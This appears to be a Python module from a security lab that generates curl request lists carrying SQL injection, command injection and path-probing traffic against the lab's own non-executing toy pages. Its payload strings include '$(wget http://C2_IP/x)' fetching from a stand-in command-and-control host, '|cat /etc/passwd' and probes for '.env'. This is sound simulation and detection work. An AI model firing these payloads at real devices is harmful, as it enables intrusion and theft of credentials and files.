"""Requests that injections are made of, against the lab's own toy pages (which execute nothing)."""

from __future__ import annotations

from emtc_lab.attacks.base import Aim, attack
from emtc_lab.site import C2_IP

_PAGED = ("smart-plug", "legacy-console")
_SQL = ("1'+OR+'1'='1", "1'+UNION+SELECT+NULL,NULL--", "1';WAITFOR+DELAY+'0:0:5'--", "admin'--", "1+AND+1=2")
_SHELL = ("127.0.0.1;id", "127.0.0.1|cat+/etc/passwd", "%60reboot%60", f"$(wget+http://{C2_IP}/x)", "1%0Auname")
_PATHS = (
    "admin",
    "cgi-bin/luci",
    "setup.cgi",
    "boaform/admin",
    "HNAP1",
    ".env",
    "config.bin",
    "shell",
    "login",
    "api",
)


def _curl(aim: Aim, urls: list[str]) -> list[str]:
    per_minute = max(int(60 * aim.rate((4, 25), (0.15, 0.5))), 1)
    amount = max(int(aim.seconds * per_minute / 60), 3)
    chosen = [urls[number % len(urls)] for number in range(amount)]
    return ["curl", "-s", "-g", "-o", "/dev/null", "--rate", f"{per_minute}/m", *chosen]


@attack("sql-injection", "web", "lan", "device", needs=_PAGED)
def sql_injection(aim: Aim) -> list[str]:
    """Quotes and unions in a parameter."""
    return _curl(aim, [f"http://{aim.victim}/search?id={text}&n={aim.rng.randrange(99)}" for text in _SQL])


@attack("command-injection", "web", "device", "device", needs=_PAGED)
def command_injection(aim: Aim) -> list[str]:
    """Shell words in a parameter, from a taken-over device."""
    return _curl(aim, [f"http://{aim.victim}/ping?host={text}" for text in _SHELL])


@attack("path-guessing", "web", "lan", "device", needs=_PAGED)
def path_guessing(aim: Aim) -> list[str]:
    """Pages that careless firmware has."""
    return _curl(aim, [f"http://{aim.victim}/{path}{aim.rng.choice(['', '/', '.bak'])}" for path in _PATHS])
